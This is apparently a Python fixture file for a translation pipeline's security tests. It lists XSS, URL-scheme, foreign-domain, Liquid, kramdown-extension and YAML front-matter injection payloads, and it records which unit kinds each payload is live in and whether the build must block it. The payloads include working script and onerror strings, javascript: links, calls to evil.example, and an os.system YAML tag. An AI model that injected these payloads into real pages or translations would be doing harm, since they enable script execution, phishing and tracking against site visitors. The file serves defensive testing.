"""The malicious translations of `test_security.py`: payloads by class, each tried in every kind
of unit of tests/fixtures/security/article.md where it means something.

A payload's template holds `{t}`, which stands for the unit's source text (a translator's
translation that keeps everything and adds the attack). `live` names the unit kinds where the
page an unchecked build produces really is harmful (rendered by kramdown, read by an HTML5
parser, as test_security.py does): it documents where each attack is real.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum

BODY_MARKDOWN = frozenset({"heading", "paragraph", "blockquote", "table cell", "list item"})
HTML_TEXT = frozenset({"HTML <figcaption>", "HTML <p>", "HTML <div>"})
ATTRIBUTE_VALUES = frozenset({"HTML <img> alt", "HTML <img> title"})
TITLE = "front matter: title"
CHAPEAU = "front matter: chapeau-text"
# `{% include figure.html caption="…" %}`, whose template prints it as it is, in the body: kramdown reads it as raw HTML
PARAMETER = "include: caption"
PRINTED_AS_IS = frozenset({TITLE, PARAMETER})  # what templates print as it is
UNIT_KINDS = BODY_MARKDOWN | HTML_TEXT | ATTRIBUTE_VALUES | PRINTED_AS_IS | {CHAPEAU}
MARKDOWN = BODY_MARKDOWN | {CHAPEAU}  # where kramdown reads Markdown
HTML = MARKDOWN | HTML_TEXT | PRINTED_AS_IS  # where a tag is live
SINGLE_LINE = frozenset({"heading", "table cell", TITLE})
FRONT_MATTER = frozenset({TITLE, CHAPEAU})
NONE: frozenset[str] = frozenset()


class Expect(Enum):
    SAFETY = "a safety error: never published"
    ERROR = "an error: published with --force only, and harmless then"
    HARMLESS = "no error needed: what the build writes is harmless"


@dataclass(frozen=True)
class Payload:
    name: str
    klass: str
    template: str | Callable[[str], str]
    expect: Expect = Expect.SAFETY
    live: frozenset[str] = NONE
    kinds: frozenset[str] = UNIT_KINDS
    note: str = ""  # a translator comment on the entry

    def translation(self, source: str) -> str:
        if callable(self.template):
            return self.template(source)
        return self.template.replace("{t}", source)


def _class(klass: str, live: frozenset[str], expect: Expect, items: list[tuple[str, str]], kinds: frozenset[str] = UNIT_KINDS) -> list[Payload]:
    kinds = frozenset(kinds)
    return [Payload(name, klass, template, expect, frozenset(live) & kinds, kinds) for name, template in items]


def _hidden_title(source: str) -> str:
    """The paragraph's own `<abbr title>`, its text hiding a definition behind `^` lines (which
    end a kramdown paragraph), and a shortcut reference using it."""
    return source.replace("Mission des services numériques", "x\n^\n[the MSN site]: javascript:alert(1)\n^\ny") + " See [the MSN site]."


PAYLOADS: list[Payload] = [
    *_class("script-capable element", HTML, Expect.SAFETY, [
        ("script", "{t} <script>alert(1)</script>"),
        ("script, mixed case", "{t} <ScRiPt>alert(1)</sCrIpT>"),
        ("object", '{t} <object data="https://evil.example/x.swf"></object>'),
        ("embed", '{t} <embed src="https://evil.example/x.swf">'),
        ("style", "{t} <style>body{background:url(https://evil.example/x)}</style>"),
        ("base", '{t} <base href="https://evil.example/">'),
        ("form", '{t} <form action="https://evil.example/"><input name="q"></form>'),
        ("meta refresh", '{t} <meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        ("link stylesheet", '{t} <link rel="stylesheet" href="https://evil.example/x.css">'),
        ("svg animate", "{t} <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("math mXSS", "{t} <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("template", "{t} <template><img src=x onerror=alert(1)></template>"),
        ("noscript mXSS", '{t} <noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ]),
    *_class("script-capable element", HTML_TEXT | PRINTED_AS_IS, Expect.SAFETY, [  # block elements: text in a Markdown span
        ("iframe", '{t} <iframe src="https://evil.example/"></iframe>'),
        ("iframe srcdoc", '{t} <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ]),
    *_class("event handler", HTML, Expect.SAFETY, [
        ("onerror", '{t} <img src="x" onerror="alert(1)">'),
        ("ONERROR", '{t} <img src="/a.png" ONERROR="alert(1)">'),
        ("onmouseover on b", '{t} <b onmouseover="alert(1)">x</b>'),
        ("onclick on a", "{t} <a href=\"/x\" onclick='alert(1)'>x</a>"),
        ("newline before =", '{t} <img src="x" onerror\n="alert(1)">'),
        ("tab separator", '{t} <img src="x"\tonerror="alert(1)">'),
        ("entity in the handler", '{t} <img src="x" onerror="&#97;lert(1)">'),
        ("custom element onfocus", '{t} <x-y tabindex="1" autofocus onfocus="alert(1)">x</x-y>'),
        ("input autofocus", '{t} <input autofocus onfocus="alert(1)">'),
        ("source onerror", '{t} <video><source onerror="alert(1)"></video>'),
    ]),
    *_class("event handler", HTML_TEXT | PRINTED_AS_IS, Expect.SAFETY, [
        ("ontoggle", '{t} <details open ontoggle="alert(1)">x</details>'),
    ]),
    *_class("event handler", frozenset({TITLE}), Expect.SAFETY, [  # kramdown leaves these as text
        ("unquoted", "{t} <img src=x onerror=alert(1)>"),
        ("slashes for spaces", '{t} <img/src="x"/onerror="alert(1)">'),
        ("no space after a quote", '{t} <img src="x"onerror="alert(1)">'),
        ("onload on body", '{t} <body onload="alert(1)">'),
    ]),
    *_class("URL scheme", MARKDOWN, Expect.SAFETY, [
        ("javascript link", "{t} [x](javascript:alert(1))"),
        ("mixed case", "{t} [x](JaVaScRiPt:alert(1))"),
        ("&#58; colon", "{t} [x](javascript&#58;alert(1))"),
        ("&colon;", "{t} [x](javascript&colon;alert(1))"),
        ("&Tab; inside", "{t} [x](java&Tab;script:alert(1))"),
        ("leading space", "{t} [x]( javascript:alert(1))"),
        ("angle brackets", "{t} [x](<javascript:alert(1)>)"),
        ("data:", "{t} [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("vbscript:", "{t} [x](vbscript:msgbox(1))"),
        ("javascript image", "{t} ![x](javascript:alert(1))"),
        ("control character", "{t} [x](\x01javascript:alert(1))"),
        ("nested parentheses", "{t} [x](javascript:alert((((1)))))"),
    ]),
    *_class("URL scheme", MARKDOWN - {"table cell"}, Expect.SAFETY, [
        ("newline before )", "{t} [x](javascript:alert(1)\n)"),
        ("newline after (", "{t} [x](\njavascript:alert(1))"),
    ]),
    *_class("URL scheme", HTML, Expect.SAFETY, [
        ("javascript href", '{t} <a href="javascript:alert(1)">x</a>'),
        ("entities and a space", '{t} <a href=" &#x6A;avascript:alert(1)">x</a>'),
        ("&#x0A; inside", '{t} <a href="jav&#x0A;ascript:alert(1)">x</a>'),
        ("all entities", '{t} <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ]),
    *_class("URL scheme", NONE, Expect.SAFETY, [
        ("autolink-like", "{t} <javascript:alert(1)>"),
    ]),
    *_class("foreign domain", MARKDOWN, Expect.SAFETY, [
        ("//evil", "{t} [x](//evil.example/)"),
        ("\\\\evil", "{t} [x](\\\\evil.example/)"),
        ("http:evil", "{t} [x](http:evil.example)"),
        ("https://evil", "{t} [x](https://evil.example/)"),
        ("autolink", "{t} <https://evil.example/>"),
        ("mailto", "{t} [x](mailto:phish@evil.example)"),
        ("e-mail autolink", "{t} <phish@evil.example>"),
        ("image", "{t} ![x](https://evil.example/pixel.png)"),
        ("look-alike host", "{t} [x](https://www.exemple.gouv.fr.evil.example/)"),
        ("user info", "{t} [x](https://www.exemple.gouv.fr@evil.example/)"),
    ]),
    *_class("foreign domain", NONE, Expect.SAFETY, [
        ("bare www.", "{t} www.evil.example"),
        ("bare https://", "{t} https://evil.example/"),
    ]),
    *_class("foreign domain", HTML, Expect.SAFETY, [
        ("srcset", '{t} <img srcset="https://evil.example/a.png 1x">'),
        ("CSS url()", '{t} <span style="background:url(//evil.example/x)">x</span>'),
        ("ping", '{t} <a href="/x" ping="https://evil.example/p">x</a>'),
        ("img src", '{t} <img src="https://evil.example/pixel.png">'),
    ]),
    *_class("reference definition", MARKDOWN - {"heading", "table cell"}, Expect.SAFETY, [
        ("javascript", "{t} [x][r]\n\n[r]: javascript:alert(1)"),
        ("foreign", "{t} [x][r]\n\n[r]: https://evil.example/"),
        ("shortcut reference", "{t} [the MSN site]\n\n[the MSN site]: javascript:alert(1)"),
        ("in a list item", "{t} [the MSN site]\n\n* [the MSN site]: javascript:alert(1)"),
        ("in a quote", "{t} [the MSN site]\n\n> [the MSN site]: javascript:alert(1)"),
        ("name with [", "{t} [x][a[b]\n\n[a[b]: javascript:alert(1)"),
    ]),
    *_class("reference definition", MARKDOWN - {"heading", "table cell", "list item"}, Expect.SAFETY, [  # a term needs a paragraph
        ("in a definition", "{t} [the MSN site]\n\n: [the MSN site]: javascript:alert(1)"),
    ]),
    *_class("HTML comment", HTML, Expect.SAFETY, [
        ("<!-->", "{t} <!--><img src=x onerror=alert(1)>-->"),
        ("--!>", "{t} <!-- x --!><img src=x onerror=alert(1)>-->"),
    ]),
    *_class("HTML comment", NONE, Expect.SAFETY, [
        ("conditional comment", "{t} <!--[if IE]><script>alert(1)</script><![endif]-->"),
    ]),
    *_class("HTML comment", NONE, Expect.SAFETY, [
        ("comment splitting a tag", '{t} <img src="/a.png" <!-- alt="x" -->onerror=alert(1)>'),
        ("unclosed", "{t} <!-- "),
        ("CDATA", "{t} <![CDATA[<img src=x onerror=alert(1)>]]>"),
        ("processing instruction", "{t} <?php echo 1 ?>"),
    ]),
    *_class("attribute list", MARKDOWN, Expect.SAFETY, [
        ("closed", '{t} **x**{:onmouseover="alert(1)"}'),
        ("multi-line", '{t} **x**{:\nonmouseover="alert(1)"}'),
        ("brace in a value", '{t} **x**{:onmouseover="alert(1)" data-x="{"}'),
        ("unclosed, hiding a link", "{t} {:[x](javascript:alert(1))"),
        ("unclosed, hiding an image", "{t} {:![x](https://evil.example/pixel.png)"),
    ]),
    *_class("attribute list", NONE, Expect.SAFETY, [
        ("style", '{t} **x**{: style="position:fixed;top:0;left:0;width:100%;height:100%"}'),
        ("definition", '{t} {:evil: onclick="alert(1)"}'),
        ("goldmark's, a style", '{t} {style="background:url(//evil.example/x)"}'),  # Hugo, after a heading
        ("goldmark's, spaced", '{t} { .x title="y" }'),
    ]),
    *_class("attribute list", MARKDOWN - {"table cell", "heading", "list item"}, Expect.SAFETY, [
        ("block", '{t}\n{: onclick="alert(1)"}'),
        ("closed across a fence line", '{t} [x](/services/){:onclick="alert(1)"\n~~~\n}'),
    ]),
    *_class("attribute list", frozenset({"list item"}), Expect.SAFETY, [  # the host's {:target="_blank"} follows
        ("unclosed, closed by the host", '{t}{:onclick="alert(1)" '),
    ], frozenset({"list item", "blockquote"})),
    *_class("attribute list", NONE, Expect.SAFETY, [
        ("heading id", "{t} {#evil}"),
    ]),
    *_class("Liquid", NONE, Expect.SAFETY, [
        ("include", "{t} {% include evil.html %}"),
        ("output", "{t} {{ site.data.secrets }}"),
        ("unclosed {%", "{t} {% "),
        ("unclosed {{", "{t} {{ "),
        ("in a code span", "{t} `{{ site.data.secrets }}`"),
        ("raw block", "{t} {% raw %}x{% endraw %}"),
        ("Hugo shortcode", "{t} {{< evil >}}"),
        ("whitespace control", "{t} {%- include evil.html -%}"),
    ]),
    *_class("unclosed tag", NONE, Expect.SAFETY, [
        ("img onerror //", "{t} <img src=x onerror=alert(1)//"),
        ("alt='", "{t} <img src=x alt='"),
        ("a href javascript", '{t} <a href="javascript:alert(1)" '),
        ('title="', '{t} <b title="'),
    ]),
    *_class("hidden raw HTML", HTML_TEXT, Expect.SAFETY, [
        ("in a code span", '{t} `<img src="x" onerror="alert(1)">`'),
        ("in double backticks", "{t} ``<script>alert(1)</script>``"),
        ("behind an escape", '{t} \\<img src="x" onerror="alert(1)">'),
        ("in a link target", '{t} [x](/a<img src="x" onerror="alert(1)">)'),
    ]),
    *_class("hidden raw HTML", NONE, Expect.ERROR, [
        ("as entities", "{t} &lt;img src=x onerror=alert(1)&gt;"),
    ]),
    *_class("kramdown extension", MARKDOWN, Expect.SAFETY, [
        ("nomarkdown script", "{t} {::nomarkdown}<script>alert(1)</script>{:/nomarkdown}"),
        ("nomarkdown, unquoted", "{t} {::nomarkdown}<img src=x onerror=alert(1)>{:/}"),
        ("markdown attribute", '{t} <span markdown="1">[x](javascript:alert(1))</span>'),
    ]),
    *_class("kramdown extension", NONE, Expect.SAFETY, [
        ("options", '{t} {::options parse_block_html="true" /}'),
        ("comment", "{t} {::comment}x{:/comment}"),
        ("math", "{t} $$<img src=x onerror=alert(1)>$$"),
    ]),
    *_class("footnote or abbreviation", MARKDOWN - {"heading", "table cell"}, Expect.SAFETY, [
        ("footnote to javascript", "{t}[^evil]\n\n[^evil]: [x](javascript:alert(1))"),
        ("footnote holding a reference definition", "{t} [the MSN site]\n\n[^evil]: [the MSN site]: javascript:alert(1)"),
    ]),
    *_class("footnote or abbreviation", NONE, Expect.SAFETY, [  # kramdown escapes the expansion
        ("abbreviation with markup", '{t} MSN\n\n*[MSN]: "><img src=x onerror=alert(1)>'),
    ]),
    *_class("footnote or abbreviation", NONE, Expect.ERROR, [
        ("abbreviation over the whole page", "{t} MSN\n\n*[MSN]: Mission de hameçonnage"),
    ], MARKDOWN - {"heading", "table cell"}),
    *_class("markup hidden across a kramdown block end", MARKDOWN - SINGLE_LINE, Expect.SAFETY, [
        ("code span over a \\f line", "{t} `x\n\x0c\n[the MSN site]: javascript:alert(1)\n\x0c\n[the MSN site]` y"),
        ("code span over a \\v line", "{t} `x\n\x0b\n[the MSN site]: javascript:alert(1)\n\x0b\n[the MSN site]` y"),
        ("code span over ^ lines", "{t} `x\n^\n[the MSN site]: javascript:alert(1)\n^\n[the MSN site]` y"),
        ("code span over a setext line", "{t} `x\n---\n[the MSN site]: javascript:alert(1)\n^\n[the MSN site]` y"),
        ("code span over block IALs", "{t} `x\n{: .x}\n[the MSN site]: javascript:alert(1)\n{: .x}\n[the MSN site]` y"),
        ("after a fence line", "{t}\n~~~\n[x](javascript:alert(1))"),
        ("link target over ^ lines", "{t} [x](/services/\n^\n[the MSN site]: javascript:alert(1)\n^\n) [the MSN site]"),
        ("link title over block IALs", '{t} [x](/services/ "y\n{: .x}\n[the MSN site]: javascript:alert(1)\n{: .x}\n") [the MSN site]'),
    ]),
    Payload("abbr title over ^ lines", "markup hidden across a kramdown block end", _hidden_title, Expect.SAFETY,
            frozenset({"paragraph"}), frozenset({"paragraph"})),
    *[
        Payload(f"{name}, silenced", "translator comment", template, Expect.SAFETY, live, UNIT_KINDS, note)
        for name, template, live, note in [
            ("script", "{t} <script>alert(1)</script>", HTML, "i18npub: ignore unsafe-html, html-tag"),
            ("javascript link", "{t} [x](javascript:alert(1))", MARKDOWN, "i18npub: ignore unsafe-url, link-added, link-target, markup-added"),
            ("attribute list", '{t} **x**{:onmouseover="alert(1)"}', MARKDOWN, "i18npub: ignore unsafe-markup, ial, markup-added"),
            ("all codes", '{t} <img src="x" onerror="alert(1)">', HTML, "i18npub: ignore unsafe-html, unsafe-url, new-domain, unsafe-markup, html-tag"),
        ]
    ],
    *_class("carriage return", HTML, Expect.SAFETY, [
        ("\\r before a script", "{t}\r<script>alert(1)</script>"),
    ]),
    *_class("carriage return", MARKDOWN - SINGLE_LINE, Expect.SAFETY, [
        ("\\r line starts", "{t} [the MSN site]\r\r[the MSN site]: javascript:alert(1)"),
    ]),
    *_class("carriage return", NONE, Expect.ERROR, [
        ("\\r in a single line", "{t}\rsecond line"),
    ], SINGLE_LINE),
    *_class("quote breaking out of an attribute", NONE, Expect.HARMLESS, [
        ('"', '{t}" onerror="alert(1)'),
        ("'", "{t}' onmouseover='alert(1)"),
        ("&quot;", "{t}&quot; onerror=&quot;alert(1)"),
    ]),
    *_class("quote breaking out of an attribute", HTML, Expect.SAFETY, [
        ('"> and a script', '{t}"><script>alert(1)</script>'),
    ]),
    *_class("YAML front matter", NONE, Expect.ERROR, [
        ("new key on a new line", "{t}\nlayout: evil"),
        ("closing the front matter", "{t}\n---\npermalink: /"),
    ], FRONT_MATTER),
    *_class("YAML front matter", NONE, Expect.HARMLESS, [
        ("leading quote", '"{t}'),
        ("colon space", "{t}: permalink"),
        ("hash", "{t} #comment"),
        ("dash", "- {t}"),
        ("anchor", "&a {t}"),
        ("alias", "*a"),
        ("tag", "!!python/object/apply:os.system ['{t}']"),
        ("flow mapping", "{ permalink: /, t: {t} }"),
        ("flow sequence", "[{t}]"),
        ("block scalar", "| {t}"),
        ("directive", "%YAML {t}"),
        ("U+2028", "{t}\u2028permalink: /"),
        ("U+0085", "{t}\x85layout: evil"),
        ("byte order mark", "\ufeff{t}"),
        ("only dashes", "---"),
        ("tab", "{t}\tlayout: evil"),
    ], FRONT_MATTER),
    *_class("harmless-looking additions", NONE, Expect.ERROR, [
        ("DOM clobbering id", '{t} <a id="CONFIG" href="/services/">x</a>'),
        ("same-site link", "{t} [x](/contact/)"),
    ], MARKDOWN),
]


def attacks(full: bool = False) -> list[tuple[Payload, str]]:
    """(payload, unit kind) pairs: with `full`, every payload in every kind it is meant for;
    otherwise each payload once, where it is live if it is anywhere (to show it is real), and
    each class in every kind it is meant for, the payloads taking turns."""
    by_class: dict[str, list[Payload]] = {}
    for payload in PAYLOADS:
        by_class.setdefault(payload.klass, []).append(payload)
    chosen: set[tuple[Payload, str]] = set()
    for payloads in by_class.values():
        if full:
            chosen |= {(p, kind) for p in payloads for kind in p.kinds}
            continue
        for turn, payload in enumerate(payloads):
            kinds = sorted(payload.live) or sorted(payload.kinds)
            chosen.add((payload, kinds[turn % len(kinds)]))
        for turn, kind in enumerate(sorted(frozenset().union(*(p.kinds for p in payloads)))):
            if not any(k == kind and p in payloads for p, k in chosen):
                takers = [p for p in payloads if kind in p.kinds]
                chosen.add((takers[turn % len(takers)], kind))
    order = {payload: number for number, payload in enumerate(PAYLOADS)}
    return sorted(chosen, key=lambda pair: (order[pair[0]], pair[1]))

